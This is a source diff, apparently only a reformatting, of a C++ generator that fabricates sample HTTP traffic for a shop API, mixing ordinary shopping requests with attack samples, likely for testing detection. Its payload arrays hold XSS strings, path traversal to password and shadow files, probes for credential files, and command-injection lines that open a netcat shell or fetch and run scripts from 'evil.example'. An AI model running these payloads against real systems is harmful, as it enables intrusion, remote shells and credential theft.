@@ -13,7 +13,7 @@ namespace {
 
 // Public /16 prefixes in several countries, so the geo lookup has something to show.
 constexpr std::array<const char*, 16> kPrefixes = {
-    "81.2.", "86.12.", "5.9.",    "88.198.", "1.0.",   "101.160.", "24.48.",  "73.15.",
+    "81.2.",  "86.12.",  "5.9.",    "88.198.", "1.0.",   "101.160.", "24.48.", "73.15.",
     "187.2.", "201.17.", "41.203.", "102.89.", "49.36.", "117.200.", "36.91.", "110.232."};
 
 constexpr std::array<const char*, 8> kUserAgents = {
@@ -28,13 +28,12 @@ constexpr std::array<const char*, 8> kUserAgents = {
     "okhttp/4.12.0",
     "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/124.0 Mobile Safari/537.36"};
 
-constexpr std::array<const char*, 10> kCategories = {"shoes", "jackets", "bags",   "hats",
-                                                     "socks", "outdoor", "kids",   "sale",
-                                                     "new",   "running"};
+constexpr std::array<const char*, 10> kCategories = {
+    "shoes", "jackets", "bags", "hats", "socks", "outdoor", "kids", "sale", "new", "running"};
 constexpr std::array<const char*, 12> kSearches = {
-    "red running shoes", "waterproof jacket", "leather bag", "wool socks", "summer hat",
-    "size 42", "gift card", "O'Neill hoodie", "trail & road", "kids boots", "50% off",
-    "select a size guide"};
+    "red running shoes", "waterproof jacket", "leather bag", "wool socks",
+    "summer hat",        "size 42",           "gift card",   "O'Neill hoodie",
+    "trail & road",      "kids boots",        "50% off",     "select a size guide"};
 constexpr std::array<const char*, 8> kReviewTexts = {
     "Great fit, true to size. Would buy again!",
     "Colour was a bit darker than the photo; still happy.",
@@ -44,7 +43,7 @@ constexpr std::array<const char*, 8> kReviewTexts = {
     "Material is thin; select a bigger size if unsure.",
     "My son's favourite. 5/5",
     "Good value for money; stitching could be better."};
-constexpr std::array<const char*, 10> kFirstNames = {"alice", "bob",  "carla", "deniz", "emeka",
+constexpr std::array<const char*, 10> kFirstNames = {"alice",  "bob", "carla", "deniz", "emeka",
                                                      "fatima", "gao", "hugo",  "ines",  "jamal"};
 
 // Attack payloads, grouped by where they go. Written for this generator.
@@ -65,15 +64,25 @@ constexpr std::array<const char*, 6> kXss = {
     "<body onload=location='//evil.example'>",
     "javascript:alert(document.cookie)"};
 constexpr std::array<const char*, 6> kTraversal = {
-    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts",
-    "..\\..\\..\\windows\\win.ini", "/var/www/../../etc/passwd", "%2e%2e/%2e%2e/proc/self/environ"};
-constexpr std::array<const char*, 6> kCmd = {
-    "8.8.8.8; cat /etc/passwd", "127.0.0.1 && id", "localhost | nc evil.example 4444 -e /bin/sh",
-    "$(curl http://evil.example/x.sh | sh)", "`whoami`", "1.1.1.1; wget http://evil.example/a"};
-constexpr std::array<const char*, 10> kProbes = {
-    "/.env", "/.git/config", "/wp-admin/install.php", "/phpmyadmin/index.php",
-    "/actuator/env", "/backup.sql", "/config.php.bak", "/server-status", "/.aws/credentials",
-    "/admin/console"};
+    "../../../../etc/passwd",    "..%2f..%2f..%2fetc%2fshadow",
+    "....//....//etc/hosts",     "..\\..\\..\\windows\\win.ini",
+    "/var/www/../../etc/passwd", "%2e%2e/%2e%2e/proc/self/environ"};
+constexpr std::array<const char*, 6> kCmd = {"8.8.8.8; cat /etc/passwd",
+                                             "127.0.0.1 && id",
+                                             "localhost | nc evil.example 4444 -e /bin/sh",
+                                             "$(curl http://evil.example/x.sh | sh)",
+                                             "`whoami`",
+                                             "1.1.1.1; wget http://evil.example/a"};
+constexpr std::array<const char*, 10> kProbes = {"/.env",
+                                                 "/.git/config",
+                                                 "/wp-admin/install.php",
+                                                 "/phpmyadmin/index.php",
+                                                 "/actuator/env",
+                                                 "/backup.sql",
+                                                 "/config.php.bak",
+                                                 "/server-status",
+                                                 "/.aws/credentials",
+                                                 "/admin/console"};
 
 class Gen {
  public:
@@ -94,9 +103,10 @@ class Gen {
     std::vector<Exchange> out;
     out.reserve(opt_.count);
     for (std::size_t i = 0; i < opt_.count; ++i) {
-      std::int64_t t = opt_.start_time_s +
-                       static_cast<std::int64_t>(static_cast<double>(i) / std::max<double>(1, opt_.count) *
-                                                 static_cast<double>(opt_.span_seconds));
+      std::int64_t t =
+          opt_.start_time_s +
+          static_cast<std::int64_t>(static_cast<double>(i) / std::max<double>(1, opt_.count) *
+                                    static_cast<double>(opt_.span_seconds));
       Exchange e = Chance(opt_.attack_ratio) ? Attack() : Benign();
       e.time_s = t;
       e.source = "sample";
@@ -134,8 +144,8 @@ class Gen {
   }
   std::string Uuid() {
     std::string h = Hex(32);
-    return h.substr(0, 8) + "-" + h.substr(8, 4) + "-4" + h.substr(13, 3) + "-a" +
-           h.substr(17, 3) + "-" + h.substr(20, 12);
+    return h.substr(0, 8) + "-" + h.substr(8, 4) + "-4" + h.substr(13, 3) + "-a" + h.substr(17, 3) +
+           "-" + h.substr(20, 12);
   }
   static std::string Enc(std::string_view s) {
     static constexpr char kHex[] = "0123456789ABCDEF";
@@ -174,15 +184,24 @@ class Gen {
   }
   static std::string StatusText(int code) {
     switch (code) {
-      case 200: return "200 OK";
-      case 201: return "201 Created";
-      case 204: return "204 No Content";
-      case 400: return "400 Bad Request";
-      case 401: return "401 Unauthorized";
-      case 403: return "403 Forbidden";
-      case 404: return "404 Not Found";
-      case 500: return "500 Internal Server Error";
-      default: return std::to_string(code);
+      case 200:
+        return "200 OK";
+      case 201:
+        return "201 Created";
+      case 204:
+        return "204 No Content";
+      case 400:
+        return "400 Bad Request";
+      case 401:
+        return "401 Unauthorized";
+      case 403:
+        return "403 Forbidden";
+      case 404:
+        return "404 Not Found";
+      case 500:
+        return "500 Internal Server Error";
+      default:
+        return std::to_string(code);
     }
   }
 
@@ -212,12 +231,13 @@ class Gen {
 
   std::string Product(int id) {
     return "{\"id\":" + std::to_string(id) + ",\"name\":\"Item " + std::to_string(id) +
-           "\",\"price\":" + std::to_string(Uniform(5, 300)) + ".99,\"currency\":\"EUR\",\"stock\":" +
-           std::to_string(Uniform(0, 80)) + "}";
+           "\",\"price\":" + std::to_string(Uniform(5, 300)) +
+           ".99,\"currency\":\"EUR\",\"stock\":" + std::to_string(Uniform(0, 80)) + "}";
   }
 
   Exchange Benign() {
-    const User& u = users_[static_cast<std::size_t>(Uniform(0, static_cast<int>(users_.size()) - 1))];
+    const User& u =
+        users_[static_cast<std::size_t>(Uniform(0, static_cast<int>(users_.size()) - 1))];
     int kind = Uniform(0, 99);
     if (kind < 22) {
       std::string target = "/api/v1/products?category=" + std::string(Pick(kCategories)) +
@@ -240,7 +260,8 @@ class Gen {
       std::string q = Pick(kSearches);
       Exchange e = Base("GET", "/api/v1/search?q=" + Enc(q) + "&limit=20", u.ip, u.ua, "");
       e.status_code = 200;
-      e.response_body = "{\"query\":" + JsonStr(q) + ",\"items\":[" + Product(Uniform(1, 900)) + "]}";
+      e.response_body =
+          "{\"query\":" + JsonStr(q) + ",\"items\":[" + Product(Uniform(1, 900)) + "]}";
       return e;
     }
     if (kind < 60) {
@@ -248,7 +269,8 @@ class Gen {
       JsonBody(&e, "{\"sku\":\"SKU-" + std::to_string(Uniform(10000, 99999)) +
                        "\",\"qty\":" + std::to_string(Uniform(1, 3)) + ",\"size\":\"M\"}");
       e.status_code = 201;
-      e.response_body = "{\"cartId\":\"" + Uuid() + "\",\"items\":" + std::to_string(Uniform(1, 5)) + "}";
+      e.response_body =
+          "{\"cartId\":\"" + Uuid() + "\",\"items\":" + std::to_string(Uniform(1, 5)) + "}";
       return e;
     }
     if (kind < 66) {
@@ -268,8 +290,8 @@ class Gen {
       return e;
     }
     if (kind < 82) {
-      Exchange e = Base("GET", "/api/v1/users/" + std::to_string(u.id) + "/profile", u.ip, u.ua,
-                        u.token);
+      Exchange e =
+          Base("GET", "/api/v1/users/" + std::to_string(u.id) + "/profile", u.ip, u.ua, u.token);
       e.status_code = 200;
       e.response_body = "{\"id\":" + std::to_string(u.id) + ",\"name\":" + JsonStr(u.name) +
                         ",\"email\":\"" + u.name + "@mail.example\",\"tier\":\"gold\"}";
@@ -286,24 +308,25 @@ class Gen {
     }
     if (kind < 94) {
       Exchange e = Base("POST", "/api/v1/reviews", u.ip, u.ua, u.token);
-      JsonBody(&e, "{\"productId\":" + std::to_string(Uniform(1, 900)) + ",\"rating\":" +
-                       std::to_string(Uniform(3, 5)) + ",\"text\":" + JsonStr(Pick(kReviewTexts)) + "}");
+      JsonBody(&e, "{\"productId\":" + std::to_string(Uniform(1, 900)) +
+                       ",\"rating\":" + std::to_string(Uniform(3, 5)) +
+                       ",\"text\":" + JsonStr(Pick(kReviewTexts)) + "}");
       e.status_code = 201;
       e.response_body = "{\"reviewId\":" + std::to_string(Uniform(1, 99999)) + "}";
       return e;
     }
     if (kind < 97) {
-      Exchange e = Base("PUT", "/api/v1/users/" + std::to_string(u.id) + "/profile", u.ip, u.ua,
-                        u.token);
+      Exchange e =
+          Base("PUT", "/api/v1/users/" + std::to_string(u.id) + "/profile", u.ip, u.ua, u.token);
       JsonBody(&e, "{\"name\":" + JsonStr(u.name) + ",\"phone\":\"+44 113 496 0" +
                        std::to_string(Uniform(100, 999)) + "\",\"newsletter\":true}");
       e.status_code = 200;
       e.response_body = "{\"updated\":true}";
       return e;
     }
-    Exchange e = Base("GET", "/api/v1/files?name=invoice-" + std::to_string(Uniform(1000, 9999)) +
-                                 ".pdf",
-                      u.ip, u.ua, u.token);
+    Exchange e =
+        Base("GET", "/api/v1/files?name=invoice-" + std::to_string(Uniform(1000, 9999)) + ".pdf",
+             u.ip, u.ua, u.token);
     e.status_code = 200;
     e.response_headers[0].value = "application/pdf";
     e.response_body = "%PDF-1.7 (binary invoice)";
@@ -311,8 +334,8 @@ class Gen {
   }
 
   Exchange Attack() {
-    const std::string& ip =
-        attacker_ips_[static_cast<std::size_t>(Uniform(0, static_cast<int>(attacker_ips_.size()) - 1))];
+    const std::string& ip = attacker_ips_[static_cast<std::size_t>(
+        Uniform(0, static_cast<int>(attacker_ips_.size()) - 1))];
     std::string ua = Chance(0.5) ? std::string(Pick(kUserAgents)) : "python-requests/2.31.0";
     int kind = Uniform(0, 99);
     if (kind < 30) {
@@ -345,8 +368,9 @@ class Gen {
       bool leaked = Chance(0.2);
       e.status_code = leaked ? 200 : 400;
       e.response_headers[0].value = "text/plain";
-      e.response_body = leaked ? "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
-                               : "invalid file name";
+      e.response_body =
+          leaked ? "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
+                 : "invalid file name";
       return e;
     }
     if (kind < 78) {
